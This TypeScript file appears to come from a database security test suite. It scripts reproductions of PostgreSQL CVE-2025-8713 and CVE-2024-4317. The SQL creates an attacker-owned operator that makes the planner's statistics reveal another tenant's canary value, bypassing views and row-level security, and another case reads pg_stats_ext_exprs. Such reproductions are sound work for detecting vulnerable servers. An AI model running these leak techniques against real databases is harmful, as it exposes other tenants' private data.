/** What ANALYZE sampled: values of rows that nobody showed to the application. */

import {
  attack,
  attacker,
  canary,
  context,
  control,
  platform,
  schemas,
  type Rehearsal,
} from './rehearsal.ts'
import type { Statement } from '../../model/observation.ts'

/** Half of the rows are another tenant's, so that its text is among the most common values. */
function sampled(columns: string): readonly Statement[] {
  return context(
    `CREATE TABLE ${platform}.notes (note text, tenant text, part int) ${columns}`,
    ...(columns === ''
      ? []
      : [`CREATE TABLE ${platform}.notes_1 PARTITION OF ${platform}.notes FOR VALUES IN (1)`]),
    `INSERT INTO ${platform}.notes SELECT note, tenant, 1 FROM generate_series(1, 50),
      (VALUES ('${canary}', 'theirs'), ('own', 'ours')) AS each (note, tenant)`,
  )
}

/** An operator whose estimate is made by calling it on the most common values; it reports the hidden one. */
const curiousOperator = context(
  `CREATE FUNCTION ${attacker}.curious(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
    IF $1 = '${canary}' THEN RAISE EXCEPTION 'the planner showed %', $1; END IF; RETURN true; END $$`,
  `CREATE OPERATOR ${attacker}.<<< (FUNCTION = ${attacker}.curious, LEFTARG = text, RIGHTARG = text,
    RESTRICT = scalarltsel)`,
)

const curious = `note OPERATOR(${attacker}.<<<) 'x'`

export const plannerStatistics: readonly Rehearsal[] = [
  {
    defect: 'CVE-2025-8713',
    path: 'planner, view',
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...sampled(''),
      ...context(
        `CREATE VIEW ${platform}.closed AS SELECT * FROM ${platform}.notes`,
        `CREATE VIEW ${platform}.open AS SELECT * FROM ${platform}.notes WHERE tenant = 'ours'`,
        `GRANT SELECT ON ${platform}.open TO ${roles.app}`,
        `ANALYZE ${platform}.notes`,
        `SET LOCAL SESSION AUTHORIZATION ${roles.app}`,
      ),
      control(`SELECT note FROM ${platform}.open LIMIT 1`),
      ...curiousOperator,
      attack(`SELECT note FROM ${platform}.closed WHERE ${curious}`),
    ],
  },
  {
    defect: 'CVE-2025-8713',
    path: 'planner, partition',
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...sampled('PARTITION BY LIST (part)'),
      ...context(
        ...['notes', 'notes_1'].flatMap((table) => [
          `ALTER TABLE ${platform}.${table} ENABLE ROW LEVEL SECURITY`,
          `CREATE POLICY own ON ${platform}.${table} USING (tenant = 'ours')`,
          `GRANT SELECT ON ${platform}.${table} TO ${roles.app}`,
          `ANALYZE ${platform}.${table}`,
        ]),
        `SET LOCAL SESSION AUTHORIZATION ${roles.app}`,
      ),
      control(`SELECT note FROM ${platform}.notes LIMIT 1`),
      ...curiousOperator,
      attack(`SELECT note FROM ${platform}.notes WHERE ${curious} LIMIT 5`),
    ],
  },
  {
    defect: 'CVE-2024-4317',
    path: 'pg_stats_ext_exprs',
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...sampled(''),
      ...context(
        `CREATE STATISTICS ${platform}.upper ON (upper(note) || lower(note)) FROM ${platform}.notes`,
        `ANALYZE ${platform}.notes`,
      ),
      control(
        `SELECT most_common_vals::text FROM pg_stats_ext_exprs WHERE statistics_schemaname = '${platform}'`,
      ),
      ...context(`SET LOCAL SESSION AUTHORIZATION ${roles.app}`),
      attack(
        `SELECT most_common_vals::text FROM pg_stats_ext_exprs WHERE statistics_schemaname = '${platform}'`,
      ),
    ],
  },
]
